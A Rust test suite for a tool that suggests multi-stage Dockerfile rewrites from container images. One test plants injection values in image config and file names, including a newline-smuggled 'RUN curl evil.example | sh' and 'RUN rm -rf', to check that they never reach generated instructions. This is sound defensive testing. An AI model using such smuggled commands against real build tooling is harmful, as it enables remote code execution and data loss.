//! `bathy suggest` on test-helper images: the runtime stage each kind of program gets (static,
//! dynamic glibc, node, python, a script), the build stage from a Dockerfile (ARG in FROM,
//! several stages, a heredoc) or from history, and the sentence instead of a file when there
//! is nothing to gain. Expected lines are written from the images' descriptions, by hand.

mod common;

use bathyscaphe::analysis::capture::why_capture;
use bathyscaphe::analysis::suggest::{suggest, OriginalDockerfile, SuggestOptions, Suggestion};
use bathyscaphe::analysis::why::{WhyOptions, WhyReport};
use bathyscaphe::analysis::Analysis;
use bathyscaphe::report::dockerfile_writer::render;
use bathyscaphe::source::{load_path, LoadOptions};
use bathyscaphe::testkit::{fake_elf, ArchiveFormat, Compression, ImageSpec, LayerSpec};
use common::*;

const LD: &str = "/lib64/ld-linux-x86-64.so.2";
/// The build tools every image carries, so that a rewrite has something to gain (1.2 MB).
fn toolchain() -> LayerSpec {
    LayerSpec::new("RUN apt-get install -y golang-go build-essential").file_sized(
        "usr/lib/go/pkg/tool/compile",
        1_200_000,
        9,
    )
}

fn suggestion(spec: &ImageSpec, opts: &SuggestOptions) -> Suggestion {
    let d = tmp();
    let p = d.path().join("image.tar");
    spec.write(&p, ArchiveFormat::DockerArchive, Compression::None)
        .expect("write");
    let img = load_path(
        &p,
        &LoadOptions {
            capture: Some(why_capture()),
            ..Default::default()
        },
    )
    .expect("load");
    let a = Analysis::run(&img);
    let w = WhyReport::run(&img, &a, &WhyOptions::default());
    suggest(&img, &a.merged, &w, opts)
}

/// The Dockerfile text of a rewrite (panics on "nothing").
fn dockerfile(spec: &ImageSpec, opts: &SuggestOptions) -> String {
    match suggestion(spec, opts) {
        Suggestion::Rewrite(plan) => render(&plan),
        Suggestion::Nothing(s) => panic!("no rewrite: {s}"),
    }
}

fn with_dockerfile(text: &str) -> SuggestOptions {
    SuggestOptions {
        dockerfile: Some(OriginalDockerfile::parse(text.into(), "Dockerfile").expect("parses")),
        ..Default::default()
    }
}

/// The runtime stage: everything from its FROM on.
fn runtime(text: &str) -> &str {
    let at = text.rfind("\nFROM ").expect("a runtime FROM");
    &text[at + 1..]
}

/// The instruction lines (no comments) of the runtime stage.
fn instructions(text: &str) -> Vec<&str> {
    runtime(text)
        .lines()
        .filter(|l| !l.starts_with('#') && !l.is_empty())
        .collect()
}

#[test]
fn a_static_binary_goes_on_scratch_with_its_ca_bundle() {
    let spec = ImageSpec::new("static:1")
        .layer(
            LayerSpec::new("ADD rootfs /")
                .file_sized("etc/ssl/certs/ca-certificates.crt", 200, 2)
                .file_sized("etc/extra-ca.pem", 50, 4),
        )
        .layer(toolchain())
        .layer(
            LayerSpec::new("RUN go build -o server .")
                .file("app/server", &fake_elf(None, &[], None, 7000))
                .file_sized("app/main.go", 300, 3),
        )
        .env("GODEBUG=x=1")
        .env("SSL_CERT_FILE=/etc/extra-ca.pem")
        .workdir("/app")
        .cmd(&["/app/server"]);
    let df = "FROM debian:bookworm\nRUN apt-get install -y golang-go\nWORKDIR /app\nCOPY main.go .\nRUN go build -o server .\nCMD [\"/app/server\"]\n";
    let text = dockerfile(&spec, &with_dockerfile(df));
    // the original, its unnamed FROM named for COPY --from
    assert!(
        text.contains("\nFROM debian:bookworm AS build\nRUN apt-get install -y golang-go\n"),
        "{text}"
    );
    assert_eq!(
        instructions(&text),
        vec![
            "FROM scratch",
            "COPY --from=build /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/ca-certificates.crt",
            // a file the config's ENV names
            "COPY --from=build /etc/extra-ca.pem /etc/extra-ca.pem",
            "COPY --from=build /app/server /app/server",
            "ENV GODEBUG=\"x=1\"",
            "ENV SSL_CERT_FILE=\"/etc/extra-ca.pem\"",
            "WORKDIR /app",
            "CMD [\"/app/server\"]",
        ],
        "{text}"
    );
    assert!(text.contains("# the CA bundle, for TLS (200 B)"), "{text}");
    assert!(
        text.contains("# the program the image starts (7.0 kB)"),
        "{text}"
    );
    assert!(
        text.contains("#   - libraries loaded with dlopen"),
        "{text}"
    );
}

#[test]
fn a_dynamic_glibc_binary_gets_its_interpreter_and_libraries() {
    let server = fake_elf(Some(LD), &["libfoo.so.1", "libc.so.6"], None, 4000);
    let spec = ImageSpec::new("elf:1")
        .layer(
            LayerSpec::new("ADD rootfs /")
                .symlink(
                    "lib64/ld-linux-x86-64.so.2",
                    "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                )
                .file(
                    "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                    &fake_elf(None, &[], None, 1000),
                )
                .file(
                    "lib/x86_64-linux-gnu/libc.so.6",
                    &fake_elf(None, &[], None, 2000),
                )
                .file(
                    "usr/lib/x86_64-linux-gnu/libfoo.so.1.2.3",
                    &fake_elf(None, &["libc.so.6"], None, 3000),
                )
                .symlink("usr/lib/x86_64-linux-gnu/libfoo.so.1", "libfoo.so.1.2.3")
                .file_sized("usr/lib/x86_64-linux-gnu/libunused.so.1", 50_000, 1),
        )
        .layer(toolchain())
        .layer(LayerSpec::new("RUN make").file("usr/local/bin/server", &server))
        .entrypoint(&["/usr/local/bin/server"])
        .cmd(&["--port", "80"]);
    let text = dockerfile(&spec, &with_dockerfile("FROM debian:bookworm\nRUN make\n"));
    // libfoo is beyond glibc: the slim variant of the build's base
    assert_eq!(
        instructions(&text),
        vec![
            "FROM debian:bookworm-slim",
            // the loader through its symlink (COPY follows it), not again at its target
            "COPY --from=build /lib64/ld-linux-x86-64.so.2 /lib64/ld-linux-x86-64.so.2",
            "COPY --from=build /lib/x86_64-linux-gnu/libc.so.6 /lib/x86_64-linux-gnu/libc.so.6",
            "COPY --from=build /usr/lib/x86_64-linux-gnu/libfoo.so.1 /usr/lib/x86_64-linux-gnu/libfoo.so.1",
            "COPY --from=build /usr/local/bin/server /usr/local/bin/server",
            "ENTRYPOINT [\"/usr/local/bin/server\"]",
            "CMD [\"--port\",\"80\"]",
        ],
        "{text}"
    );
    assert!(
        text.contains("base: debian:bookworm has a slim variant named debian:bookworm-slim"),
        "{text}"
    );

    // glibc alone: distroless/base
    let plain = ImageSpec::new("elf:2")
        .layer(
            LayerSpec::new("ADD rootfs /")
                .file(&LD[1..], &fake_elf(None, &[], None, 1000))
                .file(
                    "lib/x86_64-linux-gnu/libc.so.6",
                    &fake_elf(None, &[], None, 2000),
                ),
        )
        .layer(toolchain())
        .layer(
            LayerSpec::new("RUN make")
                .file("server", &fake_elf(Some(LD), &["libc.so.6"], None, 4000)),
        )
        .cmd(&["/server"]);
    let text = dockerfile(&plain, &SuggestOptions::default());
    assert!(
        instructions(&text).contains(&"FROM gcr.io/distroless/base-debian12"),
        "{text}"
    );
    assert!(
        instructions(&text)
            .contains(&"COPY --from=build /lib64/ld-linux-x86-64.so.2 /lib64/ld-linux-x86-64.so.2"),
        "{text}"
    );
}

/// node, libc and the loader, as a Debian base has them.
fn node_base() -> LayerSpec {
    LayerSpec::new("ADD rootfs /")
        .file(&LD[1..], &fake_elf(None, &[], None, 1000))
        .file(
            "lib/x86_64-linux-gnu/libc.so.6",
            &fake_elf(None, &[], None, 2000),
        )
        .file(
            "usr/bin/node",
            &fake_elf(Some(LD), &["libc.so.6"], None, 5000),
        )
}

#[test]
fn a_node_app_gets_its_runtime_build_output_and_production_dependencies() {
    let spec = ImageSpec::new("node:1")
        .layer(node_base())
        .layer(toolchain())
        .layer(
            LayerSpec::new("RUN npm install && npm run build")
                .file(
                    "app/package.json",
                    br#"{"dependencies":{"a":"1"},"devDependencies":{"typescript":"5"}}"#,
                )
                .file_sized("app/dist/server.js", 700, 1)
                .file_sized("app/src/server.ts", 900, 2)
                .file_sized("app/dist/routes.js", 500, 5)
                .file(
                    "app/node_modules/a/package.json",
                    br#"{"name":"a","dependencies":{"b":"1"}}"#,
                )
                .file_sized("app/node_modules/a/index.js", 40, 6)
                .file("app/node_modules/b/package.json", br#"{"name":"b"}"#)
                .file_sized("app/node_modules/b/index.js", 60, 3)
                .file(
                    "app/node_modules/typescript/package.json",
                    br#"{"name":"typescript"}"#,
                )
                .file_sized("app/node_modules/typescript/lib/tsc.js", 9000, 4),
        )
        .workdir("/app")
        .cmd(&["node", "dist/server.js"]);
    let text = dockerfile(&spec, &with_dockerfile("FROM node:20\nRUN npm run build\n"));
    assert_eq!(
        instructions(&text),
        vec![
            "FROM node:20-slim",
            "COPY --from=build /lib64/ld-linux-x86-64.so.2 /lib64/ld-linux-x86-64.so.2",
            "COPY --from=build /lib/x86_64-linux-gnu/libc.so.6 /lib/x86_64-linux-gnu/libc.so.6",
            "COPY --from=build /usr/bin/node /usr/bin/node",
            // each production package whole; not typescript, not the sources
            "COPY --from=build /app/node_modules/a /app/node_modules/a",
            "COPY --from=build /app/node_modules/b /app/node_modules/b",
            "COPY --from=build /app/dist /app/dist",
            "COPY --from=build /app/package.json /app/package.json",
            "WORKDIR /app",
            "CMD [\"node\",\"dist/server.js\"]",
        ],
        "{text}"
    );
    assert!(
        text.contains("# the app's production dependencies (72 B)"),
        "{text}"
    );
}

#[test]
fn a_python_app_gets_the_interpreter_its_library_and_the_app() {
    let spec = ImageSpec::new("py:1")
        .layer(
            node_base()
                .file(
                    "usr/bin/python3.11",
                    &fake_elf(Some(LD), &["libc.so.6"], None, 6000),
                )
                .symlink("usr/bin/python3", "python3.11")
                .file_sized("usr/lib/python3.11/os.py", 400, 5)
                .file_sized("usr/lib/python3.11/json/__init__.py", 300, 6),
        )
        .layer(toolchain())
        .layer(LayerSpec::new("COPY . /app").file_sized("app/app.py", 100, 7))
        .workdir("/app")
        .cmd(&["python3", "app.py"]);
    let text = dockerfile(&spec, &SuggestOptions::default());
    let ins = instructions(&text);
    // the interpreter through its name (the symlink, followed), not again at python3.11
    for line in [
        "COPY --from=build /usr/bin/python3 /usr/bin/python3",
        "COPY --from=build /usr/lib/python3.11 /usr/lib/python3.11",
        "COPY --from=build /app/app.py /app/app.py",
        "CMD [\"python3\",\"app.py\"]",
    ] {
        assert!(ins.contains(&line), "{line} missing:\n{text}");
    }
    assert!(
        !ins.iter().any(|l| l.contains("/usr/bin/python3.11")),
        "{text}"
    );
    assert!(!ins.iter().any(|l| l.contains("/usr/bin/node")), "{text}");
}

#[test]
fn a_script_entrypoint_gets_its_interpreter_by_the_name_it_uses() {
    // /bin is a symlink to usr/bin, as on Debian: `#!/bin/sh` reaches /usr/bin/dash
    let spec = ImageSpec::new("script:1")
        .layer(
            LayerSpec::new("ADD rootfs /")
                .symlink("bin", "usr/bin")
                .symlink("usr/bin/sh", "dash")
                .file("usr/bin/dash", &fake_elf(None, &[], None, 3000)),
        )
        .layer(toolchain())
        .layer(LayerSpec::new("COPY start.sh /usr/local/bin/").file_mode(
            "usr/local/bin/start.sh",
            b"#!/bin/sh\necho hi\n",
            0o755,
        ))
        .entrypoint(&["/usr/local/bin/start.sh"]);
    let text = dockerfile(&spec, &SuggestOptions::default());
    let ins = instructions(&text);
    assert!(ins.contains(&"FROM scratch"), "{text}");
    // scratch has no /bin -> usr/bin: the script's interpreter goes to the path it names
    assert!(ins.contains(&"COPY --from=build /bin/sh /bin/sh"), "{text}");
    assert!(
        ins.contains(&"COPY --from=build /usr/local/bin/start.sh /usr/local/bin/start.sh"),
        "{text}"
    );
    assert!(
        ins.contains(&"ENTRYPOINT [\"/usr/local/bin/start.sh\"]"),
        "{text}"
    );
}

#[test]
fn an_image_already_multi_stage_or_already_lean_gets_a_sentence() {
    let multi = ImageSpec::new("multi:1")
        .layer(toolchain())
        .layer(
            LayerSpec::new("COPY --from=builder /app/server /server # buildkit")
                .file("server", &fake_elf(None, &[], None, 7000)),
        )
        .cmd(&["/server"]);
    match suggestion(&multi, &SuggestOptions::default()) {
        Suggestion::Nothing(s) => {
            assert!(
                s.starts_with("already multi-stage: the final stage copies from `builder`"),
                "{s}"
            )
        }
        Suggestion::Rewrite(_) => panic!("a multi-stage image got a rewrite"),
    }
    // the same from its Dockerfile
    let df = "FROM golang AS builder\nRUN go build\nFROM debian\nCOPY --from=builder /app/server /server\n";
    assert!(
        matches!(suggestion(&multi, &with_dockerfile(df)), Suggestion::Nothing(s) if s.starts_with("already multi-stage"))
    );

    let lean = ImageSpec::new("lean:1")
        .layer(
            LayerSpec::new("COPY server /server").file("server", &fake_elf(None, &[], None, 7000)),
        )
        .cmd(&["/server"]);
    match suggestion(&lean, &SuggestOptions::default()) {
        Suggestion::Nothing(s) => assert!(s.starts_with("nothing to gain: its runtime closure (7.0 kB) is 100.0 % of the final filesystem (7.0 kB)"), "{s}"),
        Suggestion::Rewrite(_) => panic!("a lean image got a rewrite"),
    }
    let none = ImageSpec::new("none:1").layer(toolchain());
    assert!(
        matches!(suggestion(&none, &SuggestOptions::default()), Suggestion::Nothing(s) if s.starts_with("nothing to suggest: runtime closure: the config has no Entrypoint or Cmd"))
    );
}

#[test]
fn a_dockerfile_with_args_in_from_several_stages_and_a_heredoc_is_carried_verbatim() {
    let spec = ImageSpec::new("app:1")
        .layer(node_base())
        .layer(toolchain())
        .layer(LayerSpec::new("RUN make").file(
            "app/server",
            &fake_elf(Some(LD), &["libc.so.6"], None, 4000),
        ))
        .cmd(&["/app/server"]);
    let df = "# syntax=docker/dockerfile:1\nARG DEBIAN=bookworm\nFROM debian:${DEBIAN} AS base\nRUN apt-get update\n\nFROM base AS app\nRUN <<EOF\nset -e\nFROM=1 make\nEOF\nCMD [\"/app/server\"]\n\nFROM base AS tests\nRUN make test\n";
    let mut opts = with_dockerfile(df);
    opts.target = Some("app".into());
    let text = dockerfile(&spec, &opts);
    // the directive stays first; everything up to the target stage is the original's text
    assert!(
        text.starts_with("# syntax=docker/dockerfile:1\n# Multi-stage rewrite"),
        "{text}"
    );
    assert!(text.contains("# stages after the built one are left out: tests\nARG DEBIAN=bookworm\nFROM debian:${DEBIAN} AS base\nRUN apt-get update\n\nFROM base AS app\nRUN <<EOF\nset -e\nFROM=1 make\nEOF\nCMD [\"/app/server\"]\n"), "{text}");
    assert!(!text.contains("make test"), "{text}");
    let ins = instructions(&text);
    // the chain's root, ARG substituted, on glibc alone: distroless/base; copies from `app`
    assert_eq!(ins[0], "FROM gcr.io/distroless/base-debian12", "{text}");
    assert!(
        ins.contains(&"COPY --from=app /app/server /app/server"),
        "{text}"
    );
}

#[test]
fn without_a_dockerfile_the_build_stage_comes_from_history() {
    let spec = ImageSpec::new("hist:1")
        .layer(
            LayerSpec::new("/bin/sh -c #(nop) ADD file:0123abcd in / ").file_sized(
                "etc/ssl/certs/ca-certificates.crt",
                200,
                2,
            ),
        )
        .layer(toolchain().after_empty("/bin/sh -c #(nop)  CMD [\"bash\"]"))
        .layer(
            LayerSpec::new("/bin/sh -c #(nop) COPY file:fb69e3eb in /app/ ")
                .after_empty("/bin/sh -c #(nop) WORKDIR /app")
                .file_sized("app/main.go", 300, 3),
        )
        .layer(
            LayerSpec::new("/bin/sh -c go build -o server .")
                .file("app/server", &fake_elf(None, &[], None, 7000)),
        )
        .trailing("/bin/sh -c #(nop)  CMD [\"/app/server\"]")
        .cmd(&["/app/server"]);
    let text = dockerfile(&spec, &SuggestOptions::default());
    let build = &text[..text.find("# ---- runtime").expect("runtime stage")];
    assert!(
        build.contains("reconstructed from the image's history"),
        "{text}"
    );
    assert!(
        build.contains("\nARG BUILD_BASE\nFROM ${BUILD_BASE} AS build\n"),
        "{text}"
    );
    assert!(build.contains("\nRUN apt-get install -y golang-go build-essential\nWORKDIR /app\n# LOST (history names its sources only by their hash: put back the build context's paths): COPY file:fb69e3eb in /app/\nRUN go build -o server .\nCMD [\"/app/server\"]\n"), "{text}");
    assert!(
        instructions(&text).contains(&"COPY --from=build /app/server /app/server"),
        "{text}"
    );
}

#[test]
fn hostile_config_values_and_paths_stay_out_of_instructions() {
    let spec = ImageSpec::new("hostile:1")
        .layer(toolchain())
        .layer(
            LayerSpec::new("RUN make")
                .file("app/server", &fake_elf(None, &[], None, 7000))
                .file("app/conf$HOME\nRUN rm -rf", b"x"),
        )
        .env("EVIL=1\nRUN curl evil.example | sh")
        .env("OK=a \"quoted\" $value")
        .label("k\nRUN x", "v")
        .workdir("/app")
        .cmd(&["/app/server"]);
    let text = dockerfile(&spec, &with_dockerfile("FROM debian\nCOPY . /app\n"));
    assert!(!text.lines().any(|l| l.starts_with("RUN ")), "{text}");
    assert!(
        text.contains("ENV OK=\"a \\\"quoted\\\" \\$value\""),
        "{text}"
    );
    assert!(
        text.contains("not carried over, as their values hold control characters: ENV, LABEL"),
        "{text}"
    );
}

#[test]
fn the_reports_point_to_suggest_only_for_a_large_gain() {
    use bathyscaphe::analysis::estimates::Estimates;
    use bathyscaphe::analysis::suggest::pointer;
    let e = |final_bytes, closure| Estimates {
        final_bytes,
        without_leftovers_bytes: 0,
        runtime_closure_bytes: closure,
        runtime_closure_files: 0,
        runtime_closure_base: None,
        program: None,
        assumptions: Vec::new(),
        closure_nodes: Vec::new(),
    };
    // 1.3 GB with an 8 MB closure: 1.292 GB to gain
    let p = pointer(&e(1_300_000_000, Some(8_000_000))).expect("a pointer");
    assert!(
        p.starts_with("a multi-stage rewrite could save 1.3 GB: run `bathy suggest`"),
        "{p}"
    );
    // 20 MB to gain, or more than half the image needed: no pointer
    assert_eq!(pointer(&e(60_000_000, Some(40_000_000))), None);
    assert_eq!(pointer(&e(120_000_000, Some(65_000_000))), None);
    assert_eq!(pointer(&e(1_000_000_000, None)), None);
}

#[test]
fn the_command_writes_the_file_says_the_sentence_and_refuses_bad_input() {
    let d = tmp();
    let image = d.path().join("image.tar");
    let spec = ImageSpec::new("static:1")
        .layer(toolchain())
        .layer(LayerSpec::new("RUN go build").file("server", &fake_elf(None, &[], None, 7000)))
        .cmd(&["/server"]);
    spec.write(&image, ArchiveFormat::DockerArchive, Compression::None)
        .expect("write");
    let img = image.to_str().expect("utf-8 path");
    let df = d.path().join("Dockerfile");
    std::fs::write(&df, "FROM debian\nRUN go build\nCMD [\"/server\"]\n").expect("write");
    let out = d.path().join("Dockerfile.suggested");
    let o = run(
        &[
            "suggest",
            img,
            "--dockerfile",
            df.to_str().expect("utf-8"),
            "-o",
            out.to_str().expect("utf-8"),
        ],
        d.path(),
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(stdout(&o), "");
    let text = std::fs::read_to_string(&out).expect("the file");
    assert!(
        text.contains("FROM debian AS build\n") && text.contains("\nFROM scratch\n"),
        "{text}"
    );

    // nothing to gain: one sentence, no file
    let lean = d.path().join("lean.tar");
    ImageSpec::new("lean:1")
        .layer(
            LayerSpec::new("COPY server /server").file("server", &fake_elf(None, &[], None, 7000)),
        )
        .cmd(&["/server"])
        .write(&lean, ArchiveFormat::DockerArchive, Compression::None)
        .expect("write");
    let o = run(&["suggest", lean.to_str().expect("utf-8")], d.path());
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(
        stdout(&o).starts_with("nothing to gain: "),
        "{}",
        stdout(&o)
    );
    assert_eq!(stdout(&o).lines().count(), 1);

    // a Dockerfile without FROM: one line naming it, exit 2, before the image is read
    std::fs::write(&df, "RUN x\n").expect("write");
    let o = run(
        &[
            "suggest",
            "/nonexistent.tar",
            "--dockerfile",
            df.to_str().expect("utf-8"),
        ],
        d.path(),
    );
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o),
        format!(
            "bathy: {}: line 1: RUN before the first FROM\n",
            df.display()
        )
    );
    // --verify runs the original, so it must be in the daemon, not a file
    std::fs::write(&df, "FROM debian\nRUN go build\n").expect("write");
    let o = run(
        &[
            "suggest",
            img,
            "--dockerfile",
            df.to_str().expect("utf-8"),
            "--verify",
        ],
        d.path(),
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains(
            "--verify runs the original image, so give it as a name the Docker daemon knows"
        ),
        "{}",
        stderr(&o)
    );
}
